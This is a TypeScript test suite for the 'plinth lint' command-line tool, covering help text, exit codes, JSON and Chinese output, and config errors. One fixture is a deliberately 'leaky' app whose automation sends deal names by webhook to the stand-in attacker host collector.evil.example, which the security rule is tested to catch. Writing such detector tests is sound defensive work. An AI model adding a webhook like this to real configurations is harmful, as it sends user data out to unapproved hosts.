import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { standardLintRules } from "@plinth/runtime";
import { templates } from "@plinth/templates";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { lintUsage, runLint } from "../src/cli/lint.js";
import { runCli } from "../src/cli/main.js";
import { createTestIo } from "./support/cliIo.js";

const fixtures = fileURLToPath(new URL("./fixtures/", import.meta.url));

let dir = "";
const file = (name: string) => join(dir, name);
const write = (name: string, value: unknown) =>
  writeFile(file(name), typeof value === "string" ? value : JSON.stringify(value, null, 2));

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "plinth-lint-"));
  const sales = JSON.parse(await readFile(join(fixtures, "sales.app.json"), "utf8")) as Record<string, unknown>;
  await write("sales.json", sales);
  // A deliberately broken app: a webhook that sends deals to a host nobody approved.
  await write("leaky.json", {
    ...sales,
    automations: [
      {
        id: "exfiltrate",
        label: { en: "Send deals", "zh-CN": "发送商机" },
        entity: "opportunity",
        trigger: { kind: "create" },
        actions: [{ kind: "webhook", url: "https://collector.evil.example/in", body: { name: "name" } }],
      },
    ],
  });
  const bad = structuredClone(sales) as { entities: Array<{ fields: Array<Record<string, unknown>> }> };
  bad.entities[1]!.fields[1]!.target = "acount";
  await write("badTarget.json", bad);
  await write("allow.json", { allowHosts: ["collector.evil.example"] });
  await write("soft.json", { rules: { "security/webhook-host": "warning" } });
  await write("typo.json", { rules: { "security/webhook-hosts": "off" } });
  await write("notJson.json", "{ rules: ");
  for (const t of templates) await write(`template-${t.app.id}.json`, t.app);
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("plinth lint --help", () => {
  it("prints the usage, options, exit codes and every rule in English and Chinese, and exits 0", async () => {
    for (const flag of ["--help", "-h"]) {
      const t = createTestIo();
      expect(await runLint([flag], t.io)).toBe(0);
      expect(t.out()).toContain(lintUsage);
      expect(t.out()).toContain("用法");
      expect(t.out()).toContain("退出码");
      for (const rule of standardLintRules) {
        expect(t.out()).toContain(rule.id);
        expect(t.out()).toContain(rule.summary["zh-CN"]);
      }
      expect(t.err()).toBe("");
    }
  });

  it("is listed in plinth help and dispatched by runCli", async () => {
    const help = createTestIo();
    expect(await runCli(["help"], help.io)).toBe(0);
    expect(help.out()).toContain(lintUsage);
    const t = createTestIo();
    expect(await runCli(["lint", file("sales.json")], t.io)).toBe(0);
  });
});

describe("docs/cli.md and docs/cli.zh-CN.md", () => {
  it.each(["cli.md", "cli.zh-CN.md"])("%s lists every rule with its default severity", async (name) => {
    const doc = await readFile(fileURLToPath(new URL(`../../../docs/${name}`, import.meta.url)), "utf8");
    for (const rule of standardLintRules) expect(doc).toContain(`| \`${rule.id}\` | ${rule.severity} |`);
  });
});

describe("plinth lint on the shipped templates", () => {
  it.each(templates.map((t) => t.app.id))("%s has no error-severity finding", async (id) => {
    const t = createTestIo();
    const code = await runLint([file(`template-${id}.json`), "--json"], t.io);
    const result = JSON.parse(t.out()) as {
      ok: boolean;
      counts: { error: number };
      findings: Array<{ severity: string }>;
    };
    expect(result.findings.filter((f) => f.severity === "error")).toEqual([]);
    expect(result).toMatchObject({ ok: true, counts: { error: 0 } });
    expect(code).toBe(0);
  });
});

describe("plinth lint on a broken app", () => {
  it("exits 1 on an error finding and prints it grouped by severity with its rule id, pointer and fix", async () => {
    const t = createTestIo();
    expect(await runLint([file("leaky.json")], t.io)).toBe(1);
    const out = t.out();
    expect(out).toContain("Errors (1)\n  error security/webhook-host /automations/0/actions/0/url\n");
    expect(out).toContain(
      "This webhook sends data to 'collector.evil.example', which is not in the allow-list (none configured).",
    );
    expect(out).toContain("    Fix: If 'collector.evil.example' is approved, add it to \"allowHosts\"");
    expect(out).toContain("Warnings (2)\n  warning security/delete-everything /permissions/2\n");
    expect(out.indexOf("Errors (1)")).toBeLessThan(out.indexOf("Warnings (2)"));
    expect(out).toContain(`${file("leaky.json")}: 1 error, 2 warnings, 0 info.`);
    expect(t.err()).toBe("");
  });

  it("prints Chinese with --lang zh-CN", async () => {
    const t = createTestIo();
    expect(await runLint([file("leaky.json"), "--lang", "zh-CN"], t.io)).toBe(1);
    expect(t.out()).toContain("错误 (1)");
    expect(t.out()).toContain("此 Webhook 把数据发送到“collector.evil.example”");
    expect(t.out()).toContain("修复：");
    expect(t.out()).toContain("：1 个错误，2 个警告，0 条提示。");
  });

  it("prints one JSON document with --json", async () => {
    const t = createTestIo();
    expect(await runLint([file("leaky.json"), "--json"], t.io)).toBe(1);
    const result = JSON.parse(t.out()) as Record<string, unknown>;
    expect(result).toMatchObject({ ok: false, counts: { error: 1, warning: 2, info: 0 }, issues: [] });
    expect((result.findings as unknown[])[0]).toEqual({
      rule: "security/webhook-host",
      severity: "error",
      path: "/automations/0/actions/0/url",
      params: {
        host: "collector.evil.example",
        url: "https://collector.evil.example/in",
        allowed: "none configured",
        allowedZh: "未配置",
      },
      message: {
        en: "This webhook sends data to 'collector.evil.example', which is not in the allow-list (none configured).",
        "zh-CN": "此 Webhook 把数据发送到“collector.evil.example”，该主机不在允许列表（未配置）中。",
      },
      hint: expect.objectContaining({ en: expect.stringContaining("allowHosts") }),
    });
  });

  it("passes with a config that allows the host, and warnings only exit 0 unless --max-warnings is exceeded", async () => {
    const allowed = createTestIo();
    expect(await runLint([file("leaky.json"), "--config", file("allow.json")], allowed.io)).toBe(0);
    expect(allowed.out()).not.toContain("webhook-host");
    const soft = createTestIo();
    expect(await runLint([file("leaky.json"), "--config", file("soft.json")], soft.io)).toBe(0);
    expect(soft.out()).toContain("Warnings (3)");
    const strict = createTestIo();
    expect(await runLint([file("leaky.json"), "--config", file("soft.json"), "--max-warnings", "2"], strict.io)).toBe(
      1,
    );
    expect(strict.out()).toContain("Too many warnings: 3, at most 2 allowed (--max-warnings).");
    const enough = createTestIo();
    expect(await runLint([file("leaky.json"), "--config", file("soft.json"), "--max-warnings=3"], enough.io)).toBe(0);
  });

  it("exits 1 on an invalid app with the validation issues, as plinth validate would", async () => {
    const t = createTestIo();
    expect(await runLint([file("badTarget.json")], t.io)).toBe(1);
    expect(t.out()).toContain("error schema.unknownReference /entities/1/fields/1/target");
  });
});

describe("plinth lint usage problems (exit 2)", () => {
  it("refuses an invalid config with the issue's pointer into it", async () => {
    const t = createTestIo();
    expect(await runLint([file("sales.json"), "--config", file("typo.json")], t.io)).toBe(2);
    expect(t.err()).toContain(
      "error lint.unknownRule /rules/security~1webhook-hosts: There is no lint rule 'security/webhook-hosts'. Did you mean 'security/webhook-host'?",
    );
    const json = createTestIo();
    expect(await runLint([file("sales.json"), "--config", file("typo.json"), "--json"], json.io)).toBe(2);
    expect(JSON.parse(json.out())).toMatchObject({ ok: false, issues: [{ code: "lint.unknownRule" }], findings: [] });
  });

  it("refuses a config that is not JSON or cannot be read", async () => {
    const notJson = createTestIo();
    expect(await runLint([file("sales.json"), "--config", file("notJson.json")], notJson.io)).toBe(2);
    expect(notJson.err()).toContain("cli.lintConfigNotJson");
    const missing = createTestIo();
    expect(await runLint([file("sales.json"), "--config", file("nope.json")], missing.io)).toBe(2);
    expect(missing.err()).toContain("cli.fileUnreadable");
  });

  it("refuses a missing app file, no app file, an extra argument and a bad --max-warnings", async () => {
    const cases: string[][] = [
      [file("nope.json")],
      [],
      [file("sales.json"), "extra"],
      [file("sales.json"), "--max-warnings", "many"],
      [file("sales.json"), "--strict"],
    ];
    for (const args of cases) {
      const t = createTestIo();
      expect(await runLint(args, t.io)).toBe(2);
      expect(t.err()).toMatch(/^error cli\./);
    }
  });
});
